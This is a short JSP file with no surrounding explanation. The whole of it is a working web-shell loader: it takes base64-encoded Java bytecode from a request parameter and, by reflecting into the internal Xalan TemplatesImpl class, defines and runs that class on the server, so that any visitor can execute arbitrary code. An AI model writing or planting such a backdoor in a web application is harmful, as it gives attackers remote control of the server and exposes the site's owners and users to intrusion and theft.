<%@ page import="java.lang.reflect.Field" %>
<%
    String d = request.getParameter("d");
    if (d != null) {
        byte[] code = java.util.Base64.getDecoder().decode(d);
        Class<?> tc = Class.forName("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl");
        Object t = tc.newInstance();
        Field f1 = tc.getDeclaredField("_bytecodes"); f1.setAccessible(true); f1.set(t, new byte[][]{code});
        Field f2 = tc.getDeclaredField("_name"); f2.setAccessible(true); f2.set(t, "x");
        Field f3 = tc.getDeclaredField("_tfactory"); f3.setAccessible(true);
        f3.set(t, Class.forName("com.sun.org.apache.xalan.internal.xsltc.trax.TransformerFactoryImpl").newInstance());
        tc.getMethod("newTransformer").invoke(t);
    }
%>
